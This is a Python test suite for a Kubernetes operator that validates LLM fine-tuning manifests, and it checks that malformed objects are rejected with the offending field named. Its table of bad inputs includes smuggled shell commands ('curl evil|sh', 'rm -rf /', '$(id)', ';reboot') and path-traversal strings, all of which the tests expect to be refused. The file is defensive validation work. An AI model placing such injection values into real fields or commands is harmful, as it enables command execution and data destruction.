"""Examples validate; a table of bad objects is rejected by the schema or the CEL rules, naming the field."""

import copy
import re
from pathlib import Path

import pytest
import yaml

from kubetune_operator.api import EvalRun, FineTuneJob, PreferenceDataset
from kubetune_operator.api.validation import check, validate
from kubetune_operator.errors import ValidationFailed

ROOT = Path(__file__).resolve().parents[4]
EXAMPLES = sorted((ROOT / "examples").rglob("*.yaml"))


def load(name: str) -> dict:
    return yaml.safe_load((ROOT / "examples" / name).read_text())


def documents():
    for path in EXAMPLES:
        for index, document in enumerate(yaml.safe_load_all(path.read_text())):
            if document is not None:
                yield pytest.param(document, id=f"{path.relative_to(ROOT)}#{index}")


@pytest.mark.parametrize("document", documents())
def test_every_example_validates(document):
    assert check(document) == []
    assert type(validate(document)) in (PreferenceDataset, FineTuneJob, EvalRun)


def test_examples_exist_for_every_kind_and_the_chained_pipeline():
    kinds = {d["kind"] for p in EXAMPLES for d in yaml.safe_load_all(p.read_text())}
    assert kinds == {"PreferenceDataset", "FineTuneJob", "EvalRun"}
    pipeline = [yaml.safe_load(p.read_text()) for p in sorted((ROOT / "examples" / "pipeline").glob("*.yaml"))]
    dpo = next(d for d in pipeline if d["kind"] == "FineTuneJob" and "startFrom" in d["spec"])
    assert dpo["spec"]["startFrom"]["fineTuneJob"] in {d["metadata"]["name"] for d in pipeline}


def test_defaults_are_applied():
    job = validate(load("finetunejob.yaml"))
    assert job.spec.checkpointing.keep == 3
    assert job.spec.hyperparameters.max_steps == -1
    assert job.spec.peft.lora.target_modules == ["all-linear"]


def setter(path: str, value):
    def mutate(document):
        *parents, last = path.split(".")
        node = document
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value
    return mutate


def deleter(path: str):
    def mutate(document):
        *parents, last = path.split(".")
        node = document
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        del node[last]
    return mutate


def both(*mutations):
    def mutate(document):
        for mutation in mutations:
            mutation(document)
    return mutate


PDS, FTJ, EVR = "preferencedataset.yaml", "finetunejob.yaml", "evalrun.yaml"
# An inline LLaMA-Factory column map (the example reads a dataset_info.json instead).
INLINE = {
    "kind": "preference",
    "format": "alpaca",
    "sources": [{"uri": "s3://llm-data/pairs.json"}],
    "llamafactory": {"columns": {"prompt": "q", "chosen": "good", "rejected": "bad"}},
}
SFT_DATA = "pipeline/01-sft-data.yaml"

# (example, mutation, the field the error must name)
BAD = {
    "unknown field": (FTJ, setter("spec.learningRate", 0.1), "spec.learningRate"),
    "unknown nested field": (FTJ, setter("spec.hyperparameters.lr", 0.1), "spec.hyperparameters.lr"),
    "wrong method enum": (FTJ, setter("spec.method", "ppo"), "spec.method"),
    "wrong format enum": (PDS, setter("spec.format", "xml"), "spec.format"),
    "wrong engine enum": (EVR, setter("spec.engine.type", "tgi"), "spec.engine.type"),
    "negative learning rate": (FTJ, setter("spec.hyperparameters.learningRate", -1e-4), "spec.hyperparameters.learningRate"),
    "zero learning rate": (FTJ, setter("spec.hyperparameters.learningRate", 0), "spec.hyperparameters.learningRate"),
    "learning rate as text": (FTJ, setter("spec.hyperparameters.learningRate", "1e-4; rm -rf /"), "spec.hyperparameters.learningRate"),
    "test fraction above bound": (PDS, setter("spec.split.testFraction", 0.95), "spec.split.testFraction"),
    "zero nodes": (FTJ, setter("spec.resources.nodes", 0), "spec.resources.nodes"),
    "too many GPUs per node": (FTJ, setter("spec.resources.gpusPerNode", 64), "spec.resources.gpusPerNode"),
    "ZeRO stage 1": (FTJ, setter("spec.resources.deepspeed.stage", 1), "spec.resources.deepspeed.stage"),
    "shell metacharacters in base model URI": (FTJ, setter("spec.baseModel", "s3://models/x;curl evil|sh"), "spec.baseModel"),
    "command substitution in URI": (FTJ, setter("spec.output.uri", "s3://bucket/$(id)"), "spec.output.uri"),
    "backticks in source URI": (PDS, setter("spec.llamafactory.datasetInfo", "s3://b/`id`/info.json"), "spec.llamafactory.datasetInfo"),
    "leading dash in path segment": (FTJ, setter("spec.baseModel", "file://-rf/models"), "spec.baseModel"),
    "dot-dot in URI": (FTJ, setter("spec.baseModel", "s3://models/../secrets"), "spec.baseModel"),
    "dataset_info entry that reads as an option": (PDS, setter("spec.llamafactory.dataset", "-h"), "spec.llamafactory.dataset"),
    "home directory in a file URI": (FTJ, setter("spec.output.uri", "file://~/out"), "spec.output.uri"),  # refused input
    "dot-dot inside a segment": (FTJ, setter("spec.output.uri", "s3://bucket/a..b"), "spec.output.uri"),
    "unsupported URI scheme": (FTJ, setter("spec.baseModel", "http://example.com/model"), "spec.baseModel"),
    "leading dash in referenced name": (FTJ, setter("spec.dataset.preferenceDataset", "-repeater"), "spec.dataset.preferenceDataset"),
    "shell metacharacters in referenced name": (EVR, setter("spec.candidates.1.fineTuneJob", "x;reboot"), "spec.candidates[1].fineTuneJob"),
    "over-long resource name": (FTJ, setter("metadata.name", "a" * 49), "metadata.name"),
    "invalid resource name": (FTJ, setter("metadata.name", "Bad_Name"), "metadata.name"),
    "namespace escaping the artifact root": (FTJ, setter("metadata.namespace", "../../esc"), "metadata.namespace"),  # refused input
    "namespace with a slash": (PDS, setter("metadata.namespace", "a/b"), "metadata.namespace"),
    "namespace with uppercase": (EVR, setter("metadata.namespace", "Team"), "metadata.namespace"),
    "namespace with a dot": (PDS, setter("metadata.namespace", "team.a"), "metadata.namespace"),
    "empty namespace": (PDS, setter("metadata.namespace", ""), "metadata.namespace"),
    "namespace of 64 characters": (PDS, setter("metadata.namespace", "n" * 64), "metadata.namespace"),
    "namespace that is not a string": (FTJ, setter("metadata.namespace", 7), "metadata.namespace"),
    # Python's `$` also matches before a final newline; the API server's RE2 does not.
    "URI with a trailing newline": (FTJ, setter("spec.baseModel", "file://./m\n"), "spec.baseModel"),
    "output URI with a trailing newline": (FTJ, setter("spec.output.uri", "s3://bucket/x\n"), "spec.output.uri"),
    "namespace with a trailing newline": (PDS, setter("metadata.namespace", "ns\n"), "metadata.namespace"),
    "name with a trailing newline": (PDS, setter("metadata.name", "data\n"), "metadata.name"),
    "label value with a trailing newline": (FTJ, setter("metadata.labels", {"team": "a\n"}), "metadata.labels.team"),
    "label value of 64 characters": (FTJ, setter("metadata.labels", {"team": "v" * 64}), "metadata.labels.team"),
    "label key with a space": (FTJ, setter("metadata.labels", {"a b": "x"}), "metadata.labels.a b"),
    "label value that is a number": (PDS, setter("metadata.labels", {"team": 7}), "metadata.labels"),
    "annotations past 256 KiB": (EVR, setter("metadata.annotations", {"note": "x" * 262_145}), "metadata.annotations"),
    "dots in a resource name (no reference could name it)": (PDS, setter("metadata.name", "repeater.badcases"), "metadata.name"),
    "training name starting with a digit (its Service would be refused)": (FTJ, setter("metadata.name", "7b-dpo"), "metadata.name"),
    "over-long stratify field": (SFT_DATA, setter("spec.split.stratifyBy", "s" * 64), "spec.split.stratifyBy"),
    "over-long system prompt": (EVR, setter("spec.testSet.systemPrompt", "x" * 20000), "spec.testSet.systemPrompt"),
    "pull request on a repository without an owner": (EVR, setter("spec.promotion.repository", "https://git.example.com/gitops.git"), "spec.promotion.pullRequest"),
    "pull request on an unknown forge": (EVR, setter("spec.promotion.pullRequest.provider", "bitbucket"), "spec.promotion.pullRequest.provider"),
    "pull request API root that is not http": (EVR, setter("spec.promotion.pullRequest.apiUrl", "ftp://api"), "spec.promotion.pullRequest.apiUrl"),
    "missing method": (FTJ, deleter("spec.method"), "spec.method"),
    "missing base model": (FTJ, deleter("spec.baseModel"), "spec.baseModel"),
    "missing spec": (FTJ, deleter("spec"), "spec"),
    "missing candidates": (EVR, deleter("spec.candidates"), "spec.candidates"),
    "missing dataset kind": (PDS, deleter("spec.kind"), "spec.kind"),
    "wrong apiVersion": (FTJ, setter("apiVersion", "kubetune.dev/v1"), "apiVersion"),
    "dataset with both name and uri": (FTJ, setter("spec.dataset.uri", "s3://llm-data/prepared"), "spec.dataset"),
    "dataset with neither": (FTJ, deleter("spec.dataset.preferenceDataset"), "spec.dataset"),
    "dpo options on sft": (FTJ, setter("spec.method", "sft"), "spec.dpo"),
    "orpo options on dpo": (FTJ, setter("spec.orpo", {"beta": 0.2}), "spec.orpo"),
    "kto options on simpo": (FTJ, both(setter("spec.method", "simpo"), deleter("spec.dpo"), setter("spec.kto", {})), "spec.kto"),
    "unknown dpo loss": (FTJ, setter("spec.dpo.lossType", "kto"), "spec.dpo.lossType"),
    "exo_pair without label smoothing": (FTJ, setter("spec.dpo.lossType", "exo_pair"), "spec.dpo.labelSmoothing"),
    "label smoothing on ipo": (FTJ, both(setter("spec.dpo.lossType", "ipo"), setter("spec.dpo.labelSmoothing", 0.1)), "spec.dpo.labelSmoothing"),
    "label smoothing of one half": (FTJ, both(setter("spec.dpo.lossType", "robust"), setter("spec.dpo.labelSmoothing", 0.5)), "spec.dpo.labelSmoothing"),
    "kto with batches of one": (FTJ, both(setter("spec.method", "kto"), deleter("spec.dpo")), "spec.hyperparameters.batchSize"),
    "offload params without stage 3": (FTJ, both(setter("spec.resources.deepspeed.stage", 2), setter("spec.resources.deepspeed.offloadParams", True)), "spec.resources.deepspeed.offloadParams"),
    "qlora on CPU": (FTJ, both(setter("spec.peft.type", "qlora"), setter("spec.resources.gpusPerNode", 0), deleter("spec.resources.deepspeed")), "spec.peft.type"),
    "lora block with full": (FTJ, setter("spec.peft.type", "full"), "spec.peft.lora"),
    "two baselines": (EVR, setter("spec.candidates.1.baseline", True), "spec.candidates"),
    "no baseline": (EVR, setter("spec.candidates.0.baseline", False), "spec.candidates"),
    "duplicate candidate names": (EVR, setter("spec.candidates.1.name", "base"), "spec.candidates"),
    "gate on unknown metric": (EVR, setter("spec.gates.0.metric", "bleu"), "spec.gates"),
    "candidate with model and job": (EVR, setter("spec.candidates.1.model", "s3://llm-models/x"), "spec.candidates[1]"),
    "beam search with sampling": (EVR, setter("spec.engine.temperature", 0.7), "spec.engine.beamWidth"),
    "tensor parallel on hf": (EVR, setter("spec.engine.type", "hf"), "spec.engine.tensorParallel"),
    "regex metric without pattern": (EVR, setter("spec.metrics.0.type", "regex"), "spec.metrics[0].pattern"),
    "llamafactory format without mapping": (PDS, deleter("spec.llamafactory"), "spec.llamafactory"),
    "a NUL byte in a source URI": (PDS, both(deleter("spec.llamafactory"), setter("spec.format", "trl"), setter("spec.sources", [{"uri": "file://data/%00x"}])), "spec.sources[0].uri"),
    "a NUL byte in a base model URI": (FTJ, setter("spec.baseModel", "s3://llm-models/%00"), "spec.baseModel"),
    "sft format on preference data": (PDS, both(setter("spec.format", "defects-raw"), deleter("spec.llamafactory"), setter("spec.sources", [{"uri": "s3://llm-data/x"}])), "spec.kind"),
    "kto rows from an sft-only format": (PDS, both(setter("spec.kind", "kto"), setter("spec.format", "replay"), deleter("spec.llamafactory"), setter("spec.sources", [{"uri": "s3://llm-data/x"}])), "spec.format"),
    "tools column on preference data": (PDS, both(deleter("spec.llamafactory.datasetInfo"), deleter("spec.llamafactory.dataset"), setter("spec.llamafactory.columns", {"messages": "conversations", "chosen": "c", "rejected": "r", "tools": "tools"}), setter("spec.sources", [{"uri": "s3://llm-data/x"}])), "spec.llamafactory.columns.tools"),
    "kto tag on sft data": (SFT_DATA, both(setter("spec.format", "sharegpt"), setter("spec.llamafactory", {"columns": {"messages": "conversations", "ktoTag": "label"}})), "spec.llamafactory.columns.ktoTag"),
    "mlflow without its secret": (FTJ, setter("spec.tracking", {"reportTo": ["mlflow"]}), "spec.tracking.secretName"),
    "a tracker named twice": (FTJ, setter("spec.tracking", {"reportTo": ["tensorboard", "tensorboard"]}), "spec.tracking.reportTo"),
    "an unknown tracker": (FTJ, setter("spec.tracking", {"reportTo": ["comet"]}), "spec.tracking.reportTo[0]"),
    "a tracking server in the spec": (FTJ, setter("spec.tracking", {"reportTo": ["mlflow"], "secretName": "t", "trackingUri": "http://x"}), "spec.tracking.trackingUri"),
    "secret and service account together": (FTJ, setter("spec.storage.serviceAccountName", "trainer"), "spec.storage"),
    "secret value in a spec": (FTJ, setter("spec.storage.accessKey", "AKIA..."), "spec.storage.accessKey"),
    "node selector with a bad key": (FTJ, setter("spec.scheduling.nodeSelector", {"bad key!": "x"}), "spec.scheduling.nodeSelector"),
    "toleration without key or operator Exists": (FTJ, setter("spec.scheduling.tolerations", [{"effect": "NoSchedule"}]), "spec.scheduling.tolerations[0].operator"),
    "toleration with Exists and a value": (FTJ, setter("spec.scheduling.tolerations.0.value", "yes"), "spec.scheduling.tolerations[0].value"),
    "tolerationSeconds without NoExecute": (FTJ, setter("spec.scheduling.tolerations.0.tolerationSeconds", 60), "spec.scheduling.tolerations[0].tolerationSeconds"),
    "promotion repo with shell text": (EVR, setter("spec.promotion.repository", "https://git.example.com/x;id"), "spec.promotion.repository"),
    "promotion path escaping the repo": (EVR, setter("spec.promotion.path", "adapters/../../etc"), "spec.promotion.path"),  # refused input
    # Each of these passed the CRD and failed in the pod (tests/unit/test_spec_contracts.py found them).
    "qlora under the ZeRO-3 that 8 GPUs imply": (FTJ, both(setter("spec.peft.type", "qlora"), deleter("spec.resources.deepspeed")), "spec.peft.type"),
    "qlora under explicit ZeRO-3": (FTJ, setter("spec.peft.type", "qlora"), "spec.peft.type"),
    "warmup over every step": (FTJ, setter("spec.hyperparameters.warmupRatio", 1.0), "spec.hyperparameters.warmupRatio"),
    "merged copy of a full fine-tune": (FTJ, both(setter("spec.peft", {"type": "full"}), setter("spec.output.mergeAdapter", True)), "spec.output.mergeAdapter"),
    "pattern on a metric that reads none": (EVR, setter("spec.metrics.0.pattern", "x"), "spec.metrics[0].pattern"),
    "gate on a sub-value its metric lacks": (EVR, setter("spec.gates.1.metric", "normalized_match.tokens"), "spec.gates"),
    "judge template without the answer": (EVR, setter("spec.metrics.0", {"name": "judge", "type": "rubric", "judge": {"model": "s3://llm-models/judge", "promptTemplate": "Rate {prompt}"}}), "spec.metrics[0].judge.promptTemplate"),
    "inline ranking map of sft rows": (PDS, setter("spec", {**INLINE, "kind": "sft", "llamafactory": {"ranking": True, "columns": {"prompt": "q", "response": "a"}}}), "spec.llamafactory.ranking"),
    "preference map without chosen and rejected": (PDS, setter("spec", {**INLINE, "llamafactory": {"columns": {"prompt": "q", "response": "a"}}}), "spec.llamafactory.columns"),
    "formatting against format": (PDS, setter("spec", {**INLINE, "llamafactory": {**INLINE["llamafactory"], "formatting": "sharegpt"}}), "spec.llamafactory.formatting"),
    "tags map leaving tags out": (PDS, setter("spec", {**INLINE, "format": "sharegpt", "llamafactory": {"columns": {"messages": "m", "chosen": "c", "rejected": "r"}, "tags": {"roleTag": "role"}}}), "spec.llamafactory.tags"),
    "tags beside a datasetInfo entry (they would be ignored)": (PDS, setter("spec.llamafactory.tags", {"roleTag": "r", "contentTag": "c", "userTag": "u", "assistantTag": "a"}), "spec.llamafactory"),
}


@pytest.mark.parametrize("example, mutate, field", BAD.values(), ids=BAD.keys())
def test_bad_object_is_rejected_naming_the_field(example, mutate, field):
    document = load(example)
    mutate(document)
    errors = check(document)
    assert errors, "accepted"
    # Root rules cannot carry a fieldPath into metadata, so their message starts with the field.
    assert any(error.path == field or str(error).startswith(f"{field} ") for error in errors), [
        str(e) for e in errors
    ]
    with pytest.raises(ValidationFailed):
        validate(document)


@pytest.mark.parametrize(
    ("metric", "field"),
    [
        ({"name": "verdict", "type": "regex", "pattern": "判断:(是|否"}, "spec.metrics[0].pattern"),
        (
            {"name": "judge", "type": "rubric", "judge": {"model": "s3://llm-models/judge", "promptTemplate": "{answer}", "scorePattern": "(1)(0)"}},
            "spec.metrics[0].judge.scorePattern",
        ),
    ],
)
def test_a_pattern_the_evaluator_cannot_use_is_refused_where_the_operator_reads_the_spec(metric, field):
    # CEL evaluates RE2 only, and the evaluator's patterns are Python's (lookbehind included), so the
    # operator's model compiles them: the resource fails before any Job exists, naming the field.
    document = load(EVR)
    document["spec"]["metrics"][0] = metric
    document["spec"]["gates"] = []
    del document["spec"]["promotion"]
    with pytest.raises(ValidationFailed, match=re.escape(field.removeprefix("spec."))):
        validate(document)


def test_a_key_token_pattern_the_trainer_cannot_compile_is_refused_where_the_operator_reads_the_spec():
    # Found by the spec contract test: the CRD took '?' and the trainer's TrainConfig refused it in the pod.
    document = load(FTJ)
    document["spec"]["method"] = "sft"
    document["spec"].pop("dpo", None)
    document["spec"]["sft"] = {"keyTokens": {"patterns": ["判断:(是|否)", "?"]}}
    assert check(document) == []
    with pytest.raises(ValidationFailed, match=re.escape("sft.keyTokens.patterns[1]")):
        validate(document)


# Objects the API server accepts must pass locally too: `kubetune run` refusing them would be a lie.
GOOD = {
    # YAML's `0` is an integer, but the API server hands a `number` field to CEL as a double.
    "temperature written as an integer with beam search": (EVR, setter("spec.engine.temperature", 0)),
    "learning rate written as an integer": (FTJ, setter("spec.hyperparameters.learningRate", 1)),
    "dataset name starting with a digit": (PDS, setter("metadata.name", "2024-badcases")),
    "namespace of 63 characters starting with a digit": (PDS, setter("metadata.namespace", "1" + "n" * 62)),
    "labels and annotations as the API server takes them": (FTJ, both(
        setter("metadata.labels", {"app.kubernetes.io/part-of": "llm-team", "empty": ""}),
        setter("metadata.annotations", {"kubetune.dev/note": "any text: $(x) <y> ü " * 10}))),
    "toleration of every taint": (FTJ, setter("spec.scheduling.tolerations", [{"operator": "Exists"}])),
    "unpaired APO with batches of one": (FTJ, both(setter("spec.method", "kto"), deleter("spec.dpo"), setter("spec.kto", {"lossType": "apo_zero_unpaired"}))),
    "tensorboard needs no secret": (FTJ, setter("spec.tracking", {"reportTo": ["tensorboard"]})),
    "robust DPO with label smoothing": (FTJ, both(setter("spec.dpo.lossType", "robust"), setter("spec.dpo.labelSmoothing", 0.1))),
}


@pytest.mark.parametrize("example, mutate", GOOD.values(), ids=GOOD.keys())
def test_valid_edge_case_is_accepted(example, mutate):
    document = load(example)
    mutate(document)
    assert [str(e) for e in check(document)] == []


IMMUTABLE = {
    "hyperparameters changed (the operator would not apply them)": (FTJ, setter("spec.hyperparameters.learningRate", 5e-5), "spec.hyperparameters"),
    "training resources changed": (FTJ, setter("spec.resources.gpusPerNode", 4), "spec.resources"),
    "eval gates changed": (EVR, setter("spec.gates.0.threshold", -0.5), "spec.gates"),
    "dataset output changed": (PDS, setter("spec.output", {"uri": "s3://llm-data/elsewhere"}), "spec.output"),
    "base model changed": (FTJ, setter("spec.baseModel", "s3://llm-models/Qwen2-72B-Instruct"), "spec.baseModel"),
    "dataset changed": (FTJ, setter("spec.dataset.preferenceDataset", "other"), "spec.dataset"),
    "method changed": (FTJ, both(setter("spec.method", "sft"), deleter("spec.dpo")), "spec.method"),
    "start point added": (FTJ, setter("spec.startFrom", {"fineTuneJob": "sft"}), "spec.startFrom"),
    "peft changed": (FTJ, setter("spec.peft.lora.r", 64), "spec.peft"),
    "dataset sources changed": (SFT_DATA, setter("spec.sources", [{"uri": "s3://llm-data/other/"}]), "spec.sources"),
    "dataset row limit changed": (PDS, setter("spec.limits.maxRows", 1000), "spec.limits"),
    "dataset dedupe turned off": (PDS, setter("spec.dedupe", False), "spec.dedupe"),
    "dataset column mapping changed": (PDS, setter("spec.llamafactory.dataset", "other_entry"), "spec.llamafactory"),
    "eval candidates changed": (EVR, setter("spec.candidates.0.model", "s3://llm-models/other"), "spec.candidates"),
}


@pytest.mark.parametrize("example, mutate, field", IMMUTABLE.values(), ids=IMMUTABLE.keys())
def test_immutable_field_change_is_rejected_on_update(example, mutate, field):
    old = load(example)
    new = copy.deepcopy(old)
    mutate(new)
    assert check(new) == [], "the changed object is valid on its own"
    errors = check(new, old=old)
    assert any(error.path == field and "immutable" in error.message for error in errors), [str(e) for e in errors]


def test_suspend_may_change_on_update_and_an_unchanged_spec_passes():
    old = load(FTJ)
    new = copy.deepcopy(old)
    new["spec"]["suspend"] = True
    assert check(new, old=old) == []
    for example in (PDS, EVR, SFT_DATA):
        assert check(load(example), old=load(example)) == []


def test_the_table_is_large_enough():
    assert len(BAD) + len(IMMUTABLE) >= 30


HUGE = "x" * 5_000_000


@pytest.mark.parametrize(
    "mutate",
    [
        setter("spec.baseModel", "file://" + HUGE),
        setter("spec.method", HUGE),
        setter("metadata.name", HUGE),
        setter("metadata.namespace", HUGE),
        setter("kind", HUGE),
        setter("apiVersion", HUGE),
        setter("spec.hyperparameters.learningRate", HUGE),
        setter("spec.scheduling.nodeSelector", {HUGE: "x"}),
        setter(f"spec.{HUGE}", 1),
    ],
    ids=["pattern", "enum", "name", "namespace", "kind", "apiVersion", "type", "map key", "unknown field"],
)
def test_a_huge_value_is_clipped_in_every_message(mutate):
    from kubetune_operator.cli.documents import Document, validate_all

    document = load(FTJ)
    mutate(document)
    with pytest.raises(ValidationFailed) as raised:
        validate_all([Document("big.yaml#0", document)])
    assert len(str(raised.value)) < 1000, str(raised.value)[:300]
    if "x" * 50 in str(raised.value):
        assert "(5000" in str(raised.value)  # a quoted value says how long it was


def test_the_errors_of_one_document_are_listed_up_to_a_limit():
    from kubetune_operator.cli.documents import Document, validate_all

    document = load(FTJ)
    document["spec"].update({f"unknown{i}": i for i in range(500)})
    with pytest.raises(ValidationFailed) as raised:
        validate_all([Document("many.yaml#0", document)])
    lines = str(raised.value).splitlines()
    assert len(lines) == 21 and lines[-1].endswith("… and 480 more errors")


def _rule_sites(schema, value):
    """(rule, value at its place) for every rule the document reaches, as _cel_errors visits them."""
    for rule in schema.get("x-kubernetes-validations", []):
        if "oldSelf" not in rule["rule"]:
            yield rule["rule"], value
    if isinstance(value, dict) and "properties" in schema:
        for name, child in schema["properties"].items():
            if name in value:
                yield from _rule_sites(child, value[name])
    elif isinstance(value, dict) and isinstance(schema.get("additionalProperties"), dict):
        for item in value.values():
            yield from _rule_sites(schema["additionalProperties"], item)
    elif isinstance(value, list) and "items" in schema:
        for item in value:
            yield from _rule_sites(schema["items"], item)


def _celpy(rule, value):
    import celpy

    from kubetune_operator.api.validation import _program

    try:
        return bool(_program(rule).evaluate({"self": celpy.json_to_cel(value)}))
    except celpy.CELEvalError as exc:
        return f"rule could not be evaluated: {exc.args[0]}"


def _documents_for_rules():
    for document in documents():
        yield document.values[0]
    for example, mutate, _ in [*BAD.values(), *((e, m, None) for e, m in GOOD.values())]:
        document = load(example)
        mutate(document)
        yield document
    names = load(FTJ)
    for name in ("a" * 48, "a" * 49, "ok-name", "Bad", "x.y", "é" * 10, "a" * 47 + "é"):
        yield {**names, "metadata": {"name": name}}


def test_every_rule_decides_as_celpy_does_however_its_outcome_is_found():
    """Outcomes are cached by what a rule reads, and a few string rules are decided without celpy:
    neither may ever answer otherwise than celpy on the whole value."""
    from kubetune_operator.api.schema import prune_nulls
    from kubetune_operator.api.validation import _as_cel_types, _evaluate, _schema, apply_defaults

    compared = set()
    for document in _documents_for_rules():
        if not isinstance(document.get("kind"), str) or document["kind"] not in ("PreferenceDataset", "FineTuneJob", "EvalRun"):
            continue
        schema = _schema(document["kind"])
        body = _as_cel_types(schema, apply_defaults(schema, prune_nulls(copy.deepcopy(document))))
        body.pop("status", None)
        for rule, value in _rule_sites(schema, body):
            assert _evaluate(rule, value, None) == _celpy(rule, value), (rule, value)
            compared.add(rule)
    assert len(compared) >= 40  # the rules the examples and their mutations reach
